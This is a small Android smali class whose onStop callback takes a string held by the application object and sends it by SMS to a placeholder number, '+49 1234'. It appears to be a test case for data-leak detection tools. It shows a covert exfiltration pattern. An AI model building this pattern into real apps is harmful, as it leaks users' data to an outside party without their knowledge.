.class public Lt/Main;
.super Landroid/app/Activity;

.method protected onStop()V
    .registers 12
    invoke-virtual {p0}, Lt/Main;->getApplication()Landroid/app/Application;
    move-result-object v0
    check-cast v0, Lt/App;
    iget-object v5, v0, Lt/App;->held:Ljava/lang/String;
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v2
    const-string v3, "+49 1234"
    const/4 v4, 0x0
    const/4 v6, 0x0
    const/4 v7, 0x0
    invoke-virtual/range {v2 .. v7}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method
